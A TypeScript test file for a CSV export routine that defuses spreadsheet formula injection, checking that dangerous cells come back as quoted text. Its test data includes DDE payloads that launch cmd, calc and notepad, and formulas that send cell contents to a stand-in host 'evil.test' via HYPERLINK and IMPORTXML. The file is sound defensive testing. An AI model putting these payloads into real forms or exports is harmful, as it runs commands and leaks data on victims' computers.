// A cell never runs in the spreadsheet that opens it, and is read back as what it was.
import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { asText, byteOrderMark, csvLine } from './csv.ts';

/** What people have put into forms to be run on a recruiter's computer, and what only looks like it. */
const formulas = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+49 170 1234567',
  '-2+3+cmd|" /C notepad"!A1',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =HYPERLINK("http://evil.test?leak="&A1,"Click")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1";=1+1',
  '=IMPORTXML(CONCAT("http://evil.test/?v=", CONCATENATE(A2:E2)), "//a")',
  '\u00A0=1+1',
];

const read = (csv: string) => Papa.parse<string[]>(csv).data[0] ?? [];

test.each(formulas)('%j stays text, and is all there', (formula) => {
  const [cell, other] = read(csvLine([formula, 'Ada, "the first"\nin two lines']));
  expect(cell).toBe(`'${formula}`);
  expect(other).toBe('Ada, "the first"\nin two lines');
});

test.each(['Ada', '2+2', 'a=b', 'me@example.test', "'quoted'", '', 'Ünal', 'سارة', '1-2', '"'])(
  '%j is left as it is',
  (text) => {
    expect(read(csvLine([text, 'end']))).toEqual([text, 'end']);
  },
);

test('whatever is typed, each cell is one cell, and none begins like a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 6 }), (texts) => {
      // A line's end of a lone kind within the first cell would make the reader guess another one.
      const parsed = Papa.parse<string[]>(csvLine(texts), { newline: '\r\n', delimiter: ',' }).data[0];
      expect(parsed).toEqual(texts.map(asText));
      for (const cell of parsed ?? []) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    }),
  );
});

test('numbers are numbers, moments are in UTC, and nothing is an empty cell', () => {
  const moment = new Date('2026-11-21T20:15:30.500Z');
  expect(csvLine([3, null, moment, 'end'])).toBe('3,,2026-11-21 20:15:30,"end"\r\n');
  expect(byteOrderMark).toBe('\uFEFF');
});
